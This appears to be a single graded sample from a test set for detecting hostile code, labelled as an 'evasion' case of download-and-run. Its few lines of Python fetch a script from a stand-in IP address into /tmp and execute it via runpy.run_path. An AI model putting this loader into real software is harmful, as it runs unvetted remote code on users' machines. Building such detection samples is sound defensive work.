# evasion: a downloaded file run with runpy.run_path
# grade: hard; does: download-run
import urllib.request, runpy
urllib.request.urlretrieve("http://203.0.113.5/p.py", "/tmp/p.py")
runpy.run_path("/tmp/p.py")
